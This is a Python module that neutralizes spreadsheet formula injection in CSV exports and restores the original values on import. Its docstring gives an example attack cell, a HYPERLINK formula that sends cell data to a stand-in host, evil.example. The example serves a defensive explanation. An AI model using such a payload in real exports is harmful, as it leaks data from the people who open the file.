"""Spreadsheet-safe CSV cells (CSV or formula injection, OWASP).

A spreadsheet program opening a CSV reads a cell that starts with `=`, `+`, `-` or `@` as a formula, and
one starting with a tab or a carriage return may be read so as well: a contact whose company is
`=HYPERLINK("https://evil.example/?"&A1, "Click")` would run in the spreadsheet of whoever opens the
export. Such a cell is written with a leading apostrophe, which spreadsheets take as "this is text" and do
not show. A plain number (`+13125550101`, `-2.5`) is left alone: it is no formula, and E.164 phone numbers
stay as they are.

The import takes the apostrophe off again (`restore_cell`), so an export imports back unchanged; a value
that really began with an apostrophe and then one of those characters loses the apostrophe."""

from __future__ import annotations

import re

TRIGGERS = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def neutralize_cell(value: str) -> str:
    """`value`, with an apostrophe in front when a spreadsheet would read it as a formula."""
    if value and value[0] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralize_row(values: list[str]) -> list[str]:
    return [neutralize_cell(v) for v in values]


def restore_cell(value: str) -> str:
    """The value `neutralize_cell` was given."""
    if value[:1] == "'" and value[1:2] in TRIGGERS:
        return value[1:]
    return value
